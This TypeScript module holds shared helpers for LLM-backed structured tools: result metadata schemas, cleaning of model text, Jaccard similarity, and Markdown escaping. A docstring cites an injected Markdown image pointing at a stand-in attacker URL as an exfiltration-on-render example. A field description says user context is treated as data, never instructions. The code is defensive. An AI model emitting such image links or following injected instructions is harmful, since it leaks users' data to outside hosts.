import { z } from 'zod';
import { AppError } from '../../errors.js';
import type { LlmApi, ToolContext } from '../types.js';

/**
 * What the group-A structured tools (intent_to_spec, hints_plus, one_liner, name_it, price_it)
 * share: the `meta` block every result carries, text clean-up applied to model strings, word-set
 * Jaccard, and the error a handler throws when the model's (schema-valid) reply is still unusable.
 *
 * Model schemas passed to ctx.llm.structured() stay inside OpenAI's strict dialect: every property
 * required, nullable instead of optional, no refinements or transforms, no length or count limits.
 * Counts, lengths and emptiness are checked here, in code, after the reply arrives.
 */

export const LlmMetaSchema = z.object({
  model: z.string().describe('The model the upstream says answered.'),
  usage: z
    .object({
      prompt_tokens: z.number().int().nonnegative(),
      completion_tokens: z.number().int().nonnegative(),
      total_tokens: z.number().int().nonnegative(),
    })
    .nullable()
    .describe('Token usage summed over the call (including a repair prompt), or null when the upstream did not report it.'),
  prompt_version: z.string().describe('Version of the instructions that produced this result.'),
});

export const META_OUTPUT = 'meta: {model, usage: {prompt_tokens, completion_tokens, total_tokens} | null, prompt_version}';

/** Optional free-text background for a tool (a string, not a chat transcript). */
export const MAX_CONTEXT_CHARS = 20_000;
export const contextField = z
  .string()
  .trim()
  .max(MAX_CONTEXT_CHARS)
  .optional()
  .describe(`Background the model should take into account (at most ${MAX_CONTEXT_CHARS} characters). Sent as data, never as instructions.`);

/** The structured client, or 503 when the upstream is not configured (admission normally stops that first). */
export function llmOf(ctx: ToolContext, tool: string): LlmApi {
  if (!ctx.llm) throw new AppError('tool_unavailable', `${tool} needs a language-model upstream: set LLM_BASE_URL`, { needs: ['llm'] });
  return ctx.llm;
}

/** A schema-valid reply that still cannot make a result (nothing usable in it): 503, uncharged. */
export function unusableReply(tool: string, why: string): AppError {
  return new AppError('tool_unavailable', `language-model upstream failed: the ${tool} reply was unusable (${why})`, {}, { retryable: false });
}

// Control characters except tab/newline/CR (those become spaces below anyway).
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F\u200B-\u200D\u2060\uFEFF]/g;

/** One line of model text: control and zero-width characters removed, every whitespace run one space, trimmed. */
export function clean(s: string): string {
  return s.replace(CONTROL, '').replace(/\s+/gu, ' ').trim();
}

/** Cleaned strings, empties dropped, case-insensitive duplicates dropped (first kept), at most `max`. */
export function cleanList(items: readonly string[], max = Infinity): string[] {
  const seen = new Set<string>();
  const out: string[] = [];
  for (const raw of items) {
    const s = clean(raw);
    const key = s.toLowerCase();
    if (!s || seen.has(key)) continue;
    seen.add(key);
    out.push(s);
    if (out.length >= max) break;
  }
  return out;
}

/** Number of Unicode code points (what `chars` and `max_chars` count). */
export function codePoints(s: string): number {
  let n = 0;
  for (const _ of s) n += 1;
  return n;
}

/** Lower-cased words (runs of letters and digits, NFKC-normalised), as a set. */
export function wordSet(s: string): Set<string> {
  return new Set(s.normalize('NFKC').toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? []);
}

/** |A ∩ B| / |A ∪ B| of the two texts' word sets; 0 when both are empty. */
export function jaccard(a: string | Set<string>, b: string | Set<string>): number {
  const A = typeof a === 'string' ? wordSet(a) : a;
  const B = typeof b === 'string' ? wordSet(b) : b;
  if (A.size === 0 && B.size === 0) return 0;
  let inter = 0;
  for (const w of A) if (B.has(w)) inter += 1;
  return inter / (A.size + B.size - inter);
}

/**
 * Escapes model text for Markdown so it renders as text: no raw HTML, no links or images (an
 * injected `![](https://attacker/?q=...)` would fetch on render), no emphasis or tables from stray
 * characters. Input is expected to be one line already (see `clean`).
 */
export function mdText(s: string): string {
  return s
    .replace(/[\\`*_[\]<>|#!~]/g, (c) => `\\${c}`)
    .replace(/^([-+=])/, '\\$1') // a list item, or a setext heading underline
    .replace(/^(\d+)([.)])/, '$1\\$2'); // an ordered list item
}
